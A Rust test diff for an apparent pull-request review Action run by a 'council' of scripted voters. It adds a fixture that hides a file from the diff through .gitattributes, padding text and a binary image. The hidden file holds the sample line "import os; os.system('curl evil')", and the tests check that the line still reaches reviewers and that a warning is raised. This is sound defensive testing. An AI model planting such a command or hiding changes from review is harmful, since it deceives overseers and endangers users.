@@ -31,6 +31,25 @@ fn repository(place: &Place) -> (String, String) {
     (base, git(&["rev-parse", "HEAD"]))
 }
 
+/// What a pull request does to keep a line from being read, beside a picture that nobody can read.
+fn hiding(place: &Place) -> (String, String) {
+    let (base, _) = repository(place);
+    let git = |args: &[&str]| {
+        let mut git = place.bare("git");
+        git.args(["-c", "user.name=a", "-c", "user.email=a@example.org"]).args(args);
+        let done = git.output().unwrap();
+        assert!(done.status.success(), "{}", String::from_utf8_lossy(&done.stderr));
+        String::from_utf8(done.stdout).unwrap().trim().to_string()
+    };
+    place.write(".gitattributes", "z.py -diff\n");
+    place.write("a.txt", "harmless\n".repeat(30_000));
+    place.write("p.png", [0u8, 200, 201, 255, 1, 2].repeat(50));
+    place.write("z.py", "import os; os.system('curl evil')\n");
+    git(&["add", ".gitattributes", "a.txt", "p.png", "z.py"]);
+    git(&["commit", "-qm", "more"]);
+    (base, git(&["rev-parse", "HEAD"]))
+}
+
 /// The comments of one pull request, as GitHub keeps them.
 fn github(comments: Arc<Mutex<Vec<Value>>>) -> Server {
     Server::start(move |request| {
@@ -126,7 +145,9 @@ fn a_pull_request_gets_one_comment_with_the_decision() {
     let output = std::fs::read_to_string(place.dir().join("output")).unwrap();
     let (said, house) = output.split_once("house=").unwrap();
     assert_eq!(said, "decision=rejected\naction=query_detail\n", "scripts reason about nothing");
-    let receipts = Path::new(house.trim()).join("receipts");
+    let (house, seen) = house.split_once('\n').unwrap();
+    assert_eq!(seen, "shown=all\nnot-shown=[]\n");
+    let receipts = Path::new(house).join("receipts");
     assert_eq!(std::fs::read_dir(receipts).unwrap().count(), 1, "the record outlives the step");
 }
 
@@ -163,6 +184,45 @@ fn a_long_decision_is_cut_in_the_comment_and_whole_in_the_log() {
     let mark = log.split("::stop-commands::").nth(1).unwrap().lines().next().unwrap();
     let inside = log.split(mark).nth(1).unwrap();
     assert!(inside.contains("eve says it again and again."), "the log has the end, too");
+}
+
+#[test]
+fn a_pull_request_hides_nothing_from_the_council() {
+    if Command::new("python3").arg("--version").output().is_err() {
+        let _ = writeln!(std::io::stderr(), "skipped: the GitHub Action: there is no python3 here");
+        return;
+    }
+    let place = Place::new();
+    let (base, head) = hiding(&place);
+    let comments = Arc::new(Mutex::new(Vec::new()));
+    let server = github(comments.clone());
+    let api = server.url.trim_end_matches("/v1").to_string();
+    let runner = Runner { place: &place, api: &api, base: &base, head: &head };
+    let vote = json!({ "vote": "YES", "reason": "fine", "confidence": 0.9 });
+    let said_first = json!({ "stance": "YES", "position": "p", "reasoning": "r", "confidence": 0.9 });
+    place.write("yes.txt", format!("@speak\n{said_first}\n---\n@vote\n{vote}\n"));
+    let seats: String = ["ann", "bob", "cy"]
+        .map(|name| format!("{name}=script:{}\n", place.dir().join("yes.txt").display()))
+        .concat();
+
+    let green = runner.run(&seats, "never");
+    assert!(green.status.success(), "{}", said(&green));
+    assert!(said(&green).contains("::warning::the council has not seen all"), "{}", said(&green));
+    let output = std::fs::read_to_string(place.dir().join("output")).unwrap();
+    let house = output.lines().find_map(|line| line.strip_prefix("house=")).unwrap().to_string();
+    assert!(output.contains("decision=passed\n") && output.contains("shown=part\n"), "{output}");
+    assert!(output.contains("a.txt") && output.contains("p.png") && !output.contains("z.py"), "{output}");
+    let context =
+        std::fs::read_to_string(Path::new(&house).parent().unwrap().join("pull-request.diff")).unwrap();
+    assert!(context.contains("+import os; os.system('curl evil')"), "the line is shown");
+    assert!(context.contains("`a.txt`: ") && context.chars().count() < 200_000, "{}", context.len());
+    let body = comments.lock().unwrap()[0]["body"].as_str().unwrap().to_string();
+    let top = body.find("has not seen all of this pull request").unwrap();
+    assert!(top < body.find("PASSED").unwrap(), "{body}");
+
+    let red = runner.run(&seats, "rejected");
+    assert!(!red.status.success(), "{}", said(&red));
+    assert!(said(&red).contains("::error::the council has not seen all"), "{}", said(&red));
 }
 
 #[test]
